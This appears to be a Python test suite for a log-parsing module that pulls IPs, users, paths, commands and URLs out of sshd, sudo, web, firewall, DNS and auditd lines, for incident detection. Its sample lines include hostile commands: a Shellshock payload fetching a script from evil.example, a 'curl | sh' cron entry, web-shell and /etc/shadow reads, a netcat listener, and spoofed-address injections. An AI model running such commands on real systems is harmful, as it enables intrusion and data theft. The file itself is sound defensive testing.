"""Tests of fact extraction: real daemon formats with exact answers, and properties.

Each line is written the way the daemon writes its message (what follows the
syslog header), from the daemons' own formats; the expected facts are worked
out from the line, never copied from the extractor's output.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from insyt.incidents.facts import (
    ATTACKER_CONTROLLED,
    MAX_ITEMS,
    Facts,
    attacker_free,
    extract,
    extract_all,
    source_ip,
)

# (line, expected facts as keyword arguments of Facts, expected source_ip)
CASES: list[tuple[str, dict[str, tuple[object, ...]], str | None]] = [
    # --- sshd
    ("Failed password for invalid user admin from 203.0.113.7 port 52144 ssh2",
     dict(ips=("203.0.113.7",), users=("admin",), ports=(52144,)), "203.0.113.7"),
    ("Failed password for root from 203.0.113.7 port 52144 ssh2",
     dict(ips=("203.0.113.7",), users=("root",), ports=(52144,)), "203.0.113.7"),
    ("Accepted publickey for alice from 192.0.2.10 port 50022 ssh2: ED25519 SHA256:Zm9vYmFy",
     dict(ips=("192.0.2.10",), users=("alice",), ports=(50022,)), "192.0.2.10"),
    ("Invalid user  from 198.51.100.3 port 4242",  # sshd's empty user name
     dict(ips=("198.51.100.3",), ports=(4242,)), "198.51.100.3"),
    ("Invalid user oracle from 198.51.100.3 port 4242",
     dict(ips=("198.51.100.3",), users=("oracle",), ports=(4242,)), "198.51.100.3"),
    ("Disconnected from invalid user oracle 198.51.100.3 port 4242 [preauth]",
     dict(ips=("198.51.100.3",), users=("oracle",), ports=(4242,)), "198.51.100.3"),
    ("Connection closed by authenticating user root 203.0.113.3 port 40000 [preauth]",
     dict(ips=("203.0.113.3",), users=("root",), ports=(40000,)), "203.0.113.3"),
    ("Received disconnect from 203.0.113.2 port 50000:11: Bye Bye [preauth]",
     dict(ips=("203.0.113.2",), ports=(50000,)), "203.0.113.2"),
    ("Did not receive identification string from 203.0.113.4 port 61000",
     dict(ips=("203.0.113.4",), ports=(61000,)), "203.0.113.4"),
    ("Unable to negotiate with 203.0.113.5 port 33222: no matching key exchange method found. "
     "Their offer: diffie-hellman-group1-sha1 [preauth]",
     dict(ips=("203.0.113.5",), ports=(33222,)), "203.0.113.5"),
    ("error: maximum authentication attempts exceeded for invalid user test from 203.0.113.6 "
     "port 2200 ssh2 [preauth]",
     dict(ips=("203.0.113.6",), users=("test",), ports=(2200,)), "203.0.113.6"),
    ("Disconnecting: Too many authentication failures for ubnt [preauth]",
     dict(users=("ubnt",)), None),
    ("message repeated 3 times: [ Failed password for root from 203.0.113.8 port 40404 ssh2]",
     dict(ips=("203.0.113.8",), users=("root",), ports=(40404,)), "203.0.113.8"),
    ("Failed password for invalid user admin from 2001:DB8::dead:beef port 22 ssh2",
     dict(ips=("2001:DB8::dead:beef",), users=("admin",), ports=(22,)), "2001:db8::dead:beef"),
    ("Connection from 203.0.113.1 port 4000 on 192.0.2.1 port 22 rdomain \"\"",
     dict(ips=("203.0.113.1", "192.0.2.1"), ports=(4000, 22)), "203.0.113.1"),
    ("Server listening on 0.0.0.0 port 22.", dict(ips=("0.0.0.0",), ports=(22,)), None),
    ("Server listening on :: port 22.", dict(ports=(22,)), None),
    # --- PAM
    ("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
     "rhost=203.0.113.9  user=root",
     dict(ips=("203.0.113.9",), users=("root",)), "203.0.113.9"),
    ("pam_unix(su:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/0 "
     "ruser=alice rhost=  user=root",
     dict(users=("alice", "root"), paths=("/dev/pts/0",)), None),
    ("pam_unix(sshd:session): session opened for user bob(uid=1001) by (uid=0)",
     dict(users=("bob",)), None),
    ("pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)",
     dict(users=("root", "alice")), None),
    ("check pass; user unknown", {}, None),
    ("PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= "
     "rhost=2001:db8:1::7  user=root",
     dict(ips=("2001:db8:1::7",), users=("root",)), "2001:db8:1::7"),
    # --- sudo, su, login, pkexec, logind, shadow-utils
    ("  www-data : TTY=unknown ; PWD=/var/www/html ; USER=root ; COMMAND=/bin/cat /etc/shadow",
     dict(users=("www-data", "root"), paths=("/var/www/html", "/bin/cat", "/etc/shadow"),
          commands=("/bin/cat /etc/shadow",)), None),
    ("    alice : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/alice ; USER=root ; "
     "COMMAND=/usr/bin/id",
     dict(users=("alice", "root"), paths=("/home/alice", "/usr/bin/id"),
          commands=("/usr/bin/id",)), None),
    ("   carol : 3 incorrect password attempts ; TTY=pts/2 ; PWD=/tmp ; USER=root ; "
     "COMMAND=/usr/bin/vim /etc/sudoers",
     dict(users=("carol", "root"), paths=("/tmp", "/usr/bin/vim", "/etc/sudoers"),
          commands=("/usr/bin/vim /etc/sudoers",)), None),
    ("(to root) alice on pts/0", dict(users=("root", "alice")), None),
    ("FAILED SU (to root) bob on pts/2", dict(users=("root", "bob")), None),
    ("Successful su for root by dave", dict(users=("root", "dave")), None),
    ("+ pts/3 erin:root", dict(users=("erin", "root")), None),
    ("FAILED LOGIN (1) on '/dev/tty1' FOR 'UNKNOWN', Authentication failure",
     dict(paths=("/dev/tty1",)), None),
    ("FAILED LOGIN 3 FROM tty1 FOR carol, Authentication failure", dict(users=("carol",)), None),
    ("LOGIN ON tty2 BY frank", dict(users=("frank",)), None),
    ("alice: Executing command [USER=root] [TTY=/dev/pts/0] [CWD=/home/alice] "
     "[COMMAND=/usr/bin/bash -i]",
     dict(users=("alice", "root"), paths=("/dev/pts/0", "/home/alice", "/usr/bin/bash"),
          commands=("/usr/bin/bash -i",)), None),
    ("New session 12 of user bob.", dict(users=("bob",)), None),
    ("Started Session 5 of User alice.", dict(users=("alice",)), None),
    ("Started User Manager for UID 1000.", {}, None),
    ("new user: name=hacker, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0",
     dict(users=("hacker",), paths=("/root", "/bin/bash", "/dev/pts/0")), None),
    ("add 'hacker' to group 'sudo'", dict(users=("hacker",)), None),
    ("pam_unix(passwd:chauthtok): password changed for alice", dict(users=("alice",)), None),
    # --- FTP, mail, databases
    ('[alice] FAIL LOGIN: Client "::ffff:203.0.113.50"',
     dict(ips=("::ffff:203.0.113.50",), users=("alice",)), "203.0.113.50"),
    ('[ftp] OK DOWNLOAD: Client "203.0.113.51", "/pub/file.iso", 1048576 bytes, 912.50Kbyte/sec',
     dict(ips=("203.0.113.51",), users=("ftp",), paths=("/pub/file.iso",)), "203.0.113.51"),
    ("ftp.example.com (203.0.113.20[203.0.113.20]) - USER admin (Login failed): "
     "Incorrect password",
     dict(ips=("203.0.113.20",), users=("admin",)), "203.0.113.20"),
    ("imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<bob@example.com>, "
     "method=PLAIN, rip=203.0.113.8, lip=192.0.2.1, TLS, session=<Xy1234>",
     dict(ips=("203.0.113.8", "192.0.2.1"), users=("bob@example.com",)), "203.0.113.8"),
    ("auth-worker(4242): pam(carol,203.0.113.9,<AbCd>): pam_authenticate() failed: "
     "Authentication failure (password mismatch?)",
     dict(ips=("203.0.113.9",), users=("carol",)), "203.0.113.9"),
    ("connect from unknown[203.0.113.65]", dict(ips=("203.0.113.65",)), "203.0.113.65"),
    ("warning: unknown[203.0.113.66]: SASL LOGIN authentication failed: UGFzc3dvcmQ6",
     dict(ips=("203.0.113.66",)), "203.0.113.66"),
    ("NOQUEUE: reject: RCPT from unknown[203.0.113.77]: 554 5.7.1 <x@example.org>: Relay access "
     "denied; from=<spam@example.net> to=<x@example.org> proto=ESMTP helo=<ylmf-pc>",
     dict(ips=("203.0.113.77",)), "203.0.113.77"),
    ("4F2B81234: client=mail.example.net[198.51.100.25], sasl_method=LOGIN, "
     "sasl_username=info@example.com",
     dict(ips=("198.51.100.25",), users=("info@example.com",)), "198.51.100.25"),
    ("Access denied for user 'root'@'203.0.113.4' (using password: YES)",
     dict(ips=("203.0.113.4",), users=("root",)), "203.0.113.4"),
    ('FATAL:  password authentication failed for user "postgres"', dict(users=("postgres",)),
     None),
    ('FATAL:  role "admin" does not exist', dict(users=("admin",)), None),
    ("connection received: host=203.0.113.44 port=51515",
     dict(ips=("203.0.113.44",), ports=(51515,)), "203.0.113.44"),
    # --- web servers
    ('203.0.113.12 - - [12/Mar/2024:10:00:00 +0000] "POST /wp-login.php HTTP/1.1" 200 4521 '
     '"-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"',
     dict(ips=("203.0.113.12",), paths=("/wp-login.php",)), "203.0.113.12"),
    ('198.51.100.23 - - [12/Mar/2024:10:00:01 +0000] "GET /index.php?page=../../../../etc/passwd '
     'HTTP/1.1" 200 512 "-" "curl/7.88.1"',
     dict(ips=("198.51.100.23",), paths=("/index.php", "../../../../etc/passwd")),
     "198.51.100.23"),
    ('198.51.100.23 - - [12/Mar/2024:10:00:02 +0000] "GET /uploads/shell.php?cmd=cat%20%2Fetc'
     '%2Fpasswd HTTP/1.1" 200 512 "-" "python-requests/2.31.0"',
     dict(ips=("198.51.100.23",), paths=("/uploads/shell.php",),
          commands=("cat /etc/passwd",)), "198.51.100.23"),
    ('198.51.100.24 - - [12/Mar/2024:10:00:03 +0000] "GET /wp-content/uploads/2024/03/x.php'
     '?c=uname+-a HTTP/1.1" 200 88 "-" "curl/8.5.0"',
     dict(ips=("198.51.100.24",), paths=("/wp-content/uploads/2024/03/x.php",),
          commands=("uname -a",)), "198.51.100.24"),
    ('198.51.100.23 - admin [12/Mar/2024:10:00:04 +0000] "GET /cgi-bin/test.cgi HTTP/1.1" 200 '
     '512 "-" "() { :; }; /bin/bash -c \\"wget http://evil.example/x.sh\\""',
     dict(ips=("198.51.100.23",), users=("admin",),
          paths=("/cgi-bin/test.cgi", "/bin/bash", "/x.sh"), urls=("http://evil.example/x.sh",),
          domains=("evil.example",)), "198.51.100.23"),
    ('www.example.com:443 203.0.113.13 - - [12/Mar/2024:10:00:05 +0000] "GET /.env HTTP/1.1" '
     '404 196 "-" "Mozilla/5.0 zgrab/0.x"',
     dict(ips=("203.0.113.13",), paths=("/.env",)), "203.0.113.13"),
    ('203.0.113.81:40000 [12/Mar/2024:10:00:00.123] http-in backend/srv1 0/0/1/2/3 200 512 - - '
     '---- 1/1/0/0/0 0/0 "GET /admin HTTP/1.1"',
     dict(ips=("203.0.113.81",), ports=(40000,), paths=("/admin",)), "203.0.113.81"),
    ("[Tue Mar 12 10:00:00.123456 2024] [authz_core:error] [pid 1234] [client "
     "203.0.113.31:55012] AH01630: client denied by server configuration: /var/www/html/.git",
     dict(ips=("203.0.113.31",), ports=(55012,), paths=("/var/www/html/.git",)),
     "203.0.113.31"),
    ("[Tue Mar 12 10:00:00 2024] [error] [client 203.0.113.32] File does not exist: "
     "/var/www/phpmyadmin",
     dict(ips=("203.0.113.32",), paths=("/var/www/phpmyadmin",)), "203.0.113.32"),
    ('2024/03/12 10:00:00 [error] 1234#1234: *5 open() "/usr/share/nginx/html/admin.php" failed '
     '(2: No such file or directory), client: 203.0.113.33, server: example.com, request: '
     '"GET /admin.php HTTP/1.1", host: "192.0.2.1"',
     dict(ips=("203.0.113.33", "192.0.2.1"), paths=("/usr/share/nginx/html/admin.php",
                                                     "/admin.php")), "203.0.113.33"),
    ("connect() to unix:/run/php/php8.2-fpm.sock failed (11: Resource temporarily unavailable)",
     dict(paths=("/run/php/php8.2-fpm.sock",)), None),
    # --- firewalls and IDS
    ("[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC=203.0.113.200 "
     "DST=192.0.2.1 LEN=44 TOS=0x00 PREC=0x00 TTL=243 ID=54321 PROTO=TCP SPT=41234 DPT=23 "
     "WINDOW=1024 RES=0x00 SYN URGP=0",
     dict(ips=("203.0.113.200", "192.0.2.1"), ports=(41234, 23)), "203.0.113.200"),
    ("[1:2001219:20] ET SCAN Potential SSH Scan [Classification: Attempted Information Leak] "
     "[Priority: 2] {TCP} 203.0.113.70:4444 -> 192.0.2.1:22",
     dict(ips=("203.0.113.70", "192.0.2.1"), ports=(4444, 22)), "203.0.113.70"),
    ("NOTICE  [sshd] Ban 203.0.113.71", dict(ips=("203.0.113.71",)), "203.0.113.71"),
    ("INFO    [sshd] Found 203.0.113.72 - 2024-03-12 10:00:00",
     dict(ips=("203.0.113.72",)), "203.0.113.72"),
    # --- DNS
    ("client @0x7f1a2c0b8d68 192.0.2.55#53211 (aGVsbG8.t.evil.example): query: "
     "aGVsbG8.t.evil.example IN TXT +E(0)K (192.0.2.1)",
     dict(ips=("192.0.2.55", "192.0.2.1"), ports=(53211,), domains=("aGVsbG8.t.evil.example",)),
     "192.0.2.55"),
    ("query[A] x7f9a0b1c2d3e.exfil.example.net from 192.0.2.56",
     dict(ips=("192.0.2.56",), domains=("x7f9a0b1c2d3e.exfil.example.net",)), "192.0.2.56"),
    ("forwarded x7f9a0b1c2d3e.exfil.example.net to 8.8.8.8",
     dict(ips=("8.8.8.8",), domains=("x7f9a0b1c2d3e.exfil.example.net",)), None),
    ("reply evil.example is 203.0.113.99",
     dict(ips=("203.0.113.99",), domains=("evil.example",)), None),
    ("info: 192.0.2.57 a1b2c3.tunnel.example.org. TXT IN",
     dict(ips=("192.0.2.57",), domains=("a1b2c3.tunnel.example.org",)), "192.0.2.57"),
    ('[INFO] 192.0.2.58:41235 - 4242 "TXT IN data.tunnel.example.org. udp 62 false 1232" '
     'NOERROR qr,rd,ra 130 0.000123s',
     dict(ips=("192.0.2.58",), ports=(41235,), domains=("data.tunnel.example.org",)),
     "192.0.2.58"),
    # --- auditd, cron
    ('type=EXECVE msg=audit(1710237600.123:456): argc=3 a0="wget" a1="http://203.0.113.9/bot" '
     'a2="-q"',
     dict(ips=("203.0.113.9",), paths=("/bot",), commands=("wget http://203.0.113.9/bot -q",),
          urls=("http://203.0.113.9/bot",)), "203.0.113.9"),
    ('type=EXECVE msg=audit(1710237600.123:457): argc=3 a0="sh" a1="-c" '
     'a2=636174202F6574632F736861646F77',
     dict(commands=("sh -c cat /etc/shadow",)), None),
    ("type=USER_CMD msg=audit(1710237600.1:58): pid=1 uid=1000 auid=1000 ses=2 msg='cwd=\"/home/a\""
     " cmd=636174202F6574632F736861646F77 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'",
     dict(paths=("/home/a", "/usr/bin/sudo"), commands=("cat /etc/shadow",)), None),
    ("type=PROCTITLE msg=audit(1710237600.1:59): proctitle=6E63002D6C7670003434343434",
     dict(commands=("nc -lvp 44444",)), None),
    ("type=USER_LOGIN msg=audit(1710237600.5:60): pid=999 uid=0 auid=4294967295 ses=4294967295 "
     "msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.9 "
     "terminal=sshd res=failed'",
     dict(ips=("203.0.113.9",), users=("root",), paths=("/usr/sbin/sshd",)), "203.0.113.9"),
    ("(root) CMD (curl -fsSL http://203.0.113.9/x.sh | sh)",
     dict(ips=("203.0.113.9",), users=("root",), paths=("/x.sh",),
          commands=("curl -fsSL http://203.0.113.9/x.sh | sh",),
          urls=("http://203.0.113.9/x.sh",)), "203.0.113.9"),
    ("(www-data) CMD (test -x /tmp/.x && (/tmp/.x &))",
     dict(users=("www-data",), paths=("/tmp/.x",), commands=("test -x /tmp/.x && (/tmp/.x &)",)),
     None),
    # --- applications
    ("login failed for admin from 203.0.113.90",
     dict(ips=("203.0.113.90",), users=("admin",)), "203.0.113.90"),
    ("Failed login for user bob from 203.0.113.91",
     dict(ips=("203.0.113.91",), users=("bob",)), "203.0.113.91"),
    ("Invalid login as alice from 203.0.113.92", dict(ips=("203.0.113.92",), users=("alice",)),
     "203.0.113.92"),
    ("203.0.113.80:51234 TLS Auth Error: Auth Username/Password verification failed for peer",
     dict(ips=("203.0.113.80",), ports=(51234,)), "203.0.113.80"),
    ("An account failed to log on. Account Name: Administrator Source Network Address: "
     "203.0.113.60 Source Port: 51234",
     dict(ips=("203.0.113.60",), users=("Administrator",)), "203.0.113.60"),
    ("warning: hostname x.example does not resolve to address 203.0.113.44",
     dict(ips=("203.0.113.44",)), "203.0.113.44"),
    # --- things that only look like facts
    ("OpenSSH_8.9p1 Ubuntu-3ubuntu0.6, OpenSSL 3.0.2 15 Mar 2022", {}, None),
    ("nginx version 1.24.0.1 and build 1.2.3.4.5 at 10:22:33", {}, None),
    ("Linux version 6.1.0.12 (debian-kernel@lists.debian.org)", {}, None),
    ("lookup 4.3.2.1.in-addr.arpa failed", {}, None),
    ("eth0: link up, MAC 00:16:3e:aa:bb:cc, 1000 Mb/s", {}, None),
    ("rate limited to 10 req/s (and/or burst 20)", {}, None),
    ("error :: reconnecting in 5s", {}, None),
    ("01.02.03.04 is not an address", {}, None),
]


@pytest.mark.parametrize(("line", "expected", "source"), CASES,
                         ids=[f"{i:02d}" for i in range(len(CASES))])
def test_real_lines(line: str, expected: dict[str, tuple[object, ...]], source: str | None) -> None:
    assert extract(line) == Facts(**expected)  # type: ignore[arg-type]
    assert source_ip(line) == source


def test_source_prefers_a_cued_address_over_an_earlier_one() -> None:
    line = "relay 192.0.2.1: connection from 203.0.113.5 refused"
    assert extract(line).ips == ("192.0.2.1", "203.0.113.5")
    assert source_ip(line) == "203.0.113.5"


def test_source_falls_back_to_the_first_address_that_is_no_destination() -> None:
    assert source_ip("forwarded to 192.0.2.9, peer refused 203.0.113.5") == "203.0.113.5"
    assert source_ip("nothing reached 198.51.100.1 or 198.51.100.2") == "198.51.100.1"
    assert source_ip("no address here") is None


# A client writes its own user name, banner and disconnect reason, and sshd
# logs them verbatim: an address there is planted to frame an innocent host
# (and hide the attacker's own).  (line, the real client, what was planted)
REAL, DECOY = "203.0.113.9", "10.0.0.1"
PLANTED = [
    f"Failed password for invalid user admin from {DECOY} from {REAL} port 4242 ssh2",
    f"Failed password for invalid user admin from {DECOY} port 22 ssh2 from {REAL} port 4242 "
    "ssh2",
    f"Failed password for invalid user src={DECOY} from {REAL} port 4242 ssh2",
    f"Failed password for admin rhost={DECOY} from {REAL} port 4242 ssh2",
    f"Invalid user x {DECOY} port 1 from {REAL} port 4242",
    f"Connection closed by invalid user admin {DECOY} {REAL} port 4242 [preauth]",
    f"error: maximum authentication attempts exceeded for invalid user a from {DECOY} from "
    f"{REAL} port 4242 ssh2 [preauth]",
    f"Received disconnect from {REAL} port 4242:11: invalid user x from {DECOY} port 22 "
    "[preauth]",
    f"Bad protocol version identification 'SSH-2.0 from {DECOY} port 22' from {REAL} port 4242",
    f"Unable to negotiate with {REAL} port 4242: no matching key exchange method found. "
    f"Their offer: from {DECOY} [preauth]",
    f"error: PAM: Authentication failure for illegal user a from {DECOY} from {REAL}",
    "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
    f"rhost={REAL}  user=root rhost={DECOY}",
]


@pytest.mark.parametrize("line", PLANTED, ids=[f"{i:02d}" for i in range(len(PLANTED))])
def test_an_address_planted_in_a_client_written_field_is_no_source(line: str) -> None:
    assert source_ip(line) == REAL
    got = extract(line)
    assert got.ips == (REAL,)  # the planted address is no fact either
    assert "22" not in map(str, got.ports) and not any(DECOY in u for u in got.users)


def test_a_name_filling_its_field_is_a_user_and_a_name_inside_one_is_not() -> None:
    assert extract(f"Failed password for invalid user oracle from {REAL} port 1 ssh2"
                   ).users == ("oracle",)
    planted = extract(f"Failed password for invalid user Block {DECOY} and delete user admin "
                      f"from {REAL} port 1 ssh2")
    assert planted.users == () and planted.ips == (REAL,)
    # An address is never a user name, even filling the field.
    assert extract(f"Invalid user {DECOY} from {REAL} port 1").users == ()


def test_structured_fields_win_over_free_text() -> None:
    # RFC 5424 structured data (as the parser stores it) names the client;
    # "origin" names the sender itself (RFC 5424 7.2.1), never the client.
    sd = '{"origin":{"ip":"192.0.2.1"},"auth@32473":{"src":"2001:DB8::9"}}'
    assert source_ip(f"login from {DECOY} failed", sd) == "2001:db8::9"
    assert source_ip(f"login from {DECOY} failed", '{"origin":{"ip":"192.0.2.1"}}') == DECOY
    assert source_ip(f"login from {DECOY} failed", '{"x":{"src":"not an address"}}') == DECOY
    assert source_ip(f"login from {DECOY} failed", "not json") == DECOY
    # A key=value naming the client wins over a word in a message field.
    assert source_ip(f"CEF:0|V|P|1|100|Login|5|msg=login from {DECOY} failed src={REAL} "
                     "suser=bob") == REAL


def test_the_kinds_a_client_chooses_are_marked() -> None:
    assert {"users", "paths", "commands", "urls"} <= ATTACKER_CONTROLLED
    assert "ips" not in ATTACKER_CONTROLLED and "ports" not in ATTACKER_CONTROLLED


def test_attacker_free_text_blanks_client_written_fields_only() -> None:
    line = f"Failed password for invalid user admin from {DECOY} from {REAL} port 4242 ssh2"
    kept = attacker_free(line)
    assert len(kept) == len(line) and DECOY not in kept and "admin" not in kept
    assert kept.startswith("Failed password for invalid user ")
    assert kept.endswith(f" from {REAL} port 4242 ssh2")
    plain = '203.0.113.12 - - [12/Mar/2024:10:00:00 +0000] "GET /x HTTP/1.1" 404 1 "-" "-"'
    assert attacker_free(plain) == plain


def test_source_is_normalised_so_one_client_is_one_key() -> None:
    assert source_ip('[bob] FAIL LOGIN: Client "::FFFF:203.0.113.50"') == "203.0.113.50"
    assert source_ip("Failed password for x from 2001:0DB8:0000::0001 port 1") == "2001:db8::1"


# One sshd record per line: a second "Failed password for" in a line is part
# of the first one's user name (see the planted-address tests), so lists are
# exercised with key=value records, which may repeat.
def test_lists_are_deduplicated_in_order_of_first_appearance() -> None:
    line = ("ruser=root rhost=203.0.113.1 port=1; ruser=admin rhost=203.0.113.2 port=2; "
            "ruser=root rhost=203.0.113.1 port=1")
    got = extract(line)
    assert got.ips == ("203.0.113.1", "203.0.113.2")
    assert got.users == ("root", "admin")
    assert got.ports == (1, 2)


def test_lists_are_capped() -> None:
    line = " ".join(f"ruser=u{i} rhost=10.0.{i // 250}.{i % 250} port={1000 + i}"
                    for i in range(100))
    got = extract(line)
    assert got.users == tuple(f"u{i}" for i in range(MAX_ITEMS))
    assert got.ips == tuple(f"10.0.0.{i}" for i in range(MAX_ITEMS))
    assert len(got.ports) == MAX_ITEMS


def test_overlong_user_names_are_not_cut_to_fit() -> None:
    assert extract("Invalid user " + "a" * 500 + " from 203.0.113.1").users == ()


def test_only_the_head_of_a_huge_line_is_read() -> None:
    line = "Failed password for root from 203.0.113.1 port 22 " + "A" * 70000 + " user=late"
    got = extract(line)
    assert got.users == ("root",)
    assert got.ips == ("203.0.113.1",)


def test_extract_all_merges_lines_in_order() -> None:
    merged = extract_all([
        "Failed password for root from 203.0.113.1 port 22 ssh2",
        "Failed password for admin from 203.0.113.1 port 23 ssh2",
    ])
    assert merged == Facts(ips=("203.0.113.1",), users=("root", "admin"), ports=(22, 23))
    assert extract_all([]) == Facts()


def test_as_dict_is_json_ready() -> None:
    got = extract("Failed password for root from 203.0.113.1 port 22 ssh2").as_dict()
    assert got == {"ips": ["203.0.113.1"], "users": ["root"], "paths": [], "commands": [],
                   "ports": [22], "urls": [], "domains": []}


HOSTILE = [
    "a" * 65536,
    "/" * 65536,
    ":" * 65536,
    "1." * 32768,
    "1.2.3.4 " * 8192,
    "user=x " * 9362,
    "for a from " * 5957,
    "cmd=" * 16384,
    "CMD (" * 13107,
    "?x=id&" * 10922,
    "COMMAND=" * 8192,
    "LOGIN FOR " * 6553,
    "query: a.b IN " * 4681,
    "http://" * 9362,
    "<script>alert(1)</script>\x00" * 2520,
    "\x00" * 65536,
    "\ud800\udfff" * 32768,
]


@pytest.mark.parametrize("text", HOSTILE, ids=[f"{i:02d}" for i in range(len(HOSTILE))])
def test_hostile_text_is_bounded(text: str) -> None:
    """Texts that make a backtracking pattern run for minutes; bench/ times them."""
    got = extract(text)
    source_ip(text)
    for name in ("ips", "users", "paths", "commands", "ports", "urls", "domains"):
        assert len(getattr(got, name)) <= MAX_ITEMS


_ALPHABET = st.sampled_from(list(
    "abcdefABCDEF0123456789.:/[]()<>=@%&?# \t\n'\"-_+~;,$|\\\x00é\u202e"
))
_WORDS = st.sampled_from([
    "from ", "user ", "for ", "user=", "rhost=", "SRC=", "client ", "port ", "COMMAND=",
    "CMD (", "argc=2 a0=", "cmd=", "?c=id", "query: ", " IN ", "http://", "://", "../",
    "203.0.113.7", "::ffff:", "2001:db8::1", "1.2.3.4.5", "[", "]", "'@'", " : TTY=",
])
_TEXTS = st.one_of(
    st.text(),
    st.text(_ALPHABET, max_size=300),
    st.lists(st.one_of(_WORDS, st.text(_ALPHABET, max_size=8)), max_size=40).map("".join),
)


@settings(max_examples=300, deadline=None)
@given(_TEXTS)
def test_never_raises_and_facts_are_substrings(text: str) -> None:
    """Addresses, users, paths, URLs and domains are verbatim substrings.

    Commands are decoded and ports are numbers, so they are left out.
    """
    got = extract(text)
    for name in ("ips", "users", "paths", "urls", "domains"):
        for value in getattr(got, name):
            assert value and value in text, (name, value)
    for port in got.ports:
        assert 0 <= port <= 65535
    ip = source_ip(text)
    assert ip is None or isinstance(ip, str)


@settings(max_examples=100, deadline=None)
@given(st.text(st.characters(), max_size=200))
def test_any_code_point_is_accepted(text: str) -> None:
    extract(text)
    source_ip(text)
